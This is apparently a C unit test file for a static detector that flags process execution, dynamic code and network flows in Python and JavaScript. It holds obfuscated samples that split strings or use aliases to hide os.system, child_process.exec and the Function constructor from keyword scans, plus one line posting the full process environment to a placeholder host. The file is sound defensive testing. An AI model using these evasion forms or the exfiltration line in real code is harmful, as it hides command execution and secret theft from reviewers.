/* SPDX-License-Identifier: Apache-2.0
 *
 * behavior_hiding_test.c - code that is written so that whoever looks for words finds none.
 */
#include "behavior_case.h"

#define SYSTEM "capability process os.system id"

static const struct behavior_case python[] = {
    { "import os\nos .system('id')\n", SYSTEM, NULL },
    { "import os\nos . system('id')\n", SYSTEM, NULL },
    { "import os\nos\\\n.system('id')\n", SYSTEM, NULL },
    { "import os\n(os # it\n  .system('id'))\n", SYSTEM, NULL },
    { "from\tos import system as s\ns('id')\n", SYSTEM, NULL },
    { "from os\\\n import system as s\ns('id')\n", SYSTEM, NULL },
    { "import\tos\nfor m in os,:\n    m.system('id')\n", SYSTEM, NULL },
    { "import os\ndef f(): return os\nf().system('id')\n", SYSTEM, NULL },
    { "import os; x = os; x.system('id')\n", SYSTEM, NULL },
    { "import subprocess\nx = 1 if 0 else subprocess .run(['id'])\n",
      "capability process subprocess.run id", NULL },
    { "import os\ng = getattr\ng(os, 'sys' + 'tem')('id')\n", SYSTEM, NULL },
    { "import os\ngetattr (os, 'sys' + 'tem') ('id')\n", SYSTEM, NULL },
    { "open ('/tmp/x', m + 'w')\nopen('/tmp/x', # to read\n 'w')\n", "capability file-write",
      NULL },
    { "open('x')\nopen('x', 'rb').read()\n", NULL, "capability" },
    { "import os\nprint(os.path.join('a', os.sep), os.getcwd(), os . name)\n", NULL, "capability" },
};

static const struct behavior_case script[] = {
    { "require (\"child_\" + \"process\").exec('id');", "capability process child_process.exec id",
      NULL },
    { "const r = require; r('child_' + 'process').exec('id');",
      "capability process child_process.exec id", NULL },
    { "(() => {})['constr' + 'uctor']('return 1')();", "capability dynamic-code Function", NULL },
    { "let p = 'constr' + 'uctor'; (() => {})[p] /* it */ ('return 1')();",
      "capability dynamic-code Function", NULL },
    { "function f() { return process /* it */ .env }\nfetch('http://a.invalid', {body: f()});",
      "flow env-all network", NULL },
    { "const a = [1, 2]; module.exports = a[0] + require('x').y;", NULL, "capability" },
};

static void test_python(void **state)
{
    (void)state;
    check_cases(LW_LANG_PYTHON, python, LW_COUNT(python));
}

static void test_script(void **state)
{
    (void)state;
    check_cases(LW_LANG_JAVASCRIPT, script, LW_COUNT(script));
}

int main(void)
{
    const struct CMUnitTest tests[] = { cmocka_unit_test(test_python),
                                        cmocka_unit_test(test_script) };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
